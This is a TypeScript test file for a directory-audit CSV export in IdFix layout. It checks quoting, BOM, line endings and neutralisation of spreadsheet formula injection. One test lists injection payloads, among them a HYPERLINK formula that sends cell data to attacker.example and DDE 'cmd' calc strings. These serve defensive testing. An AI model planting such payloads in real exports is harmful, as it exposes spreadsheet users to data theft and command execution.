/**
 * `fedgate doctor --csv` (server/doctor/report-csv.ts): IdFix's column layout, read back with the independent
 * csv-parse package (never fedgate's own code). RFC 4180: quotes, commas, CR/LF and non-ASCII inside values
 * round-trip; CRLF record ends; UTF-8 with BOM. OWASP CSV injection: a cell starting with = + - @ TAB CR is made
 * inert with a leading apostrophe, and nothing else is changed.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { renderCsv } from '../../../server/doctor/report-csv.ts';
import type { DirectoryFinding } from '../../../server/doctor/types.ts';
import { doctorFinding } from '../../helpers/doctor-report.ts';

/** IdFix 2.6's export header (microsoft/idfix src/IdFix/FormApp.Designer.cs grid column names, upper-cased). */
const HEADER = [
  'DISTINGUISHEDNAME',
  'COMMONNAME',
  'OBJECTCLASS',
  'ATTRIBUTE',
  'ERROR',
  'VALUE',
  'UPDATE',
  'PROPOSEDACTION',
  'ACTION',
];

function finding(over: Partial<DirectoryFinding>): DirectoryFinding {
  return doctorFinding('OU=doctor-csv,DC=corp,DC=example,DC=test', {
    dn: 'CN=clean1,OU=doctor-csv,DC=corp,DC=example,DC=test',
    commonName: 'clean1',
    ...over,
  });
}

function read(csv: string): string[][] {
  const records: string[][] = parse(csv, {
    bom: true,
    record_delimiter: '\r\n',
    relax_column_count: false,
  });
  return records;
}

test('header in IdFix order; UTF-8 BOM; CRLF after every record; one row per finding', () => {
  const csv = renderCsv([
    finding({}),
    finding({
      attribute: 'proxyAddresses',
      class: 'duplicate',
      value: 'smtp:shared@contoso.com',
      update: undefined,
      multiValued: true,
    }),
  ]);
  assert.ok(csv.startsWith('\ufeff'), 'byte-order mark first (Excel reads the file as UTF-8)');
  assert.equal(Buffer.from(csv, 'utf8').subarray(0, 3).toString('hex'), 'efbbbf');
  assert.ok(csv.endsWith('\r\n'));
  assert.equal(csv.replace(/\r\n/g, '').includes('\n'), false, 'no bare LF');
  const rows = read(csv);
  assert.deepEqual(rows[0], HEADER);
  assert.equal(rows.length, 3);
  assert.deepEqual(rows[1], [
    'CN=clean1,OU=doctor-csv,DC=corp,DC=example,DC=test',
    'clean1',
    'user',
    'userPrincipalName',
    'character',
    'john smith@contoso.com',
    'johnsmith@contoso.com',
    'Edit',
    '',
  ]);
  // No automatic fix: UPDATE empty and IdFix's proposed action "Complete" (keep as is), never Edit with an empty
  // UPDATE, which IdFix would apply as deleting the value.
  assert.deepEqual(rows[2]?.slice(3), [
    'proxyAddresses',
    'duplicate',
    'smtp:shared@contoso.com',
    '',
    'Complete',
    '',
  ]);
});

test('a proposed removal is IdFix action Remove with an empty UPDATE', () => {
  const rows = read(renderCsv([finding({ update: '' })]));
  assert.deepEqual(rows[1]?.slice(6), ['', 'Remove', '']);
});

test('no findings: the header alone', () => {
  const csv = renderCsv([]);
  assert.equal(csv, '\ufeff' + HEADER.join(',') + '\r\n');
  assert.deepEqual(read(csv), [HEADER]);
});

test('quotes, commas, CR, LF, CRLF and non-ASCII in values round-trip exactly', () => {
  const awkward = [
    'CN=Smith\\, John,OU=Sales "EMEA",DC=corp,DC=example,DC=test',
    'line one\nline two',
    'carriage\rreturn',
    'both\r\nends',
    'say "hi", then leave',
    'jürgen.çelik@contoso.com',
    '山田太郎',
    '👩‍💻 emoji',
    'trailing space ',
    ' leading space',
    '',
  ];
  const findings = awkward.map((v, i) =>
    finding({ dn: awkward[0] ?? '', commonName: v, value: v, update: `${v}#${String(i)}` }),
  );
  const rows = read(renderCsv(findings));
  assert.equal(rows.length, awkward.length + 1);
  awkward.forEach((v, i) => {
    const row = rows[i + 1];
    assert.ok(row !== undefined);
    assert.equal(row[0], awkward[0]);
    assert.equal(row[1], v, `COMMONNAME ${JSON.stringify(v)}`);
    assert.equal(row[5], v, `VALUE ${JSON.stringify(v)}`);
    assert.equal(row[6], `${v}#${String(i)}`);
  });
});

test('formula injection (OWASP CSV injection): cells starting with = + - @ TAB CR are made inert', () => {
  const payloads = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  const findings = payloads.map((p) =>
    finding({ dn: p, commonName: p, objectClass: p, attribute: p, value: p, update: p, detail: p }),
  );
  const rows = read(renderCsv(findings));
  payloads.forEach((p, i) => {
    const row = rows[i + 1];
    assert.ok(row !== undefined);
    // Every column that carries a directory value (ACTION is empty; PROPOSEDACTION is fedgate's word).
    for (const col of [0, 1, 2, 3, 5, 6]) {
      const cell: unknown = row[col];
      assert.ok(typeof cell === 'string');
      assert.equal(cell, `'${p}`, `column ${HEADER[col] ?? ''} of ${JSON.stringify(p)}`);
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'a spreadsheet would evaluate it');
    }
  });
});

test('the guard changes nothing else: such characters later in a value, and a leading apostrophe, are kept', () => {
  const safe = ['a=b', 'x+y@contoso.com', 'smtp:a-b@contoso.com', "'quoted", ' =1+1', '1-2'];
  const rows = read(renderCsv(safe.map((v) => finding({ value: v, update: v }))));
  safe.forEach((v, i) => {
    assert.equal(rows[i + 1]?.[5], v);
    assert.equal(rows[i + 1]?.[6], v);
  });
});
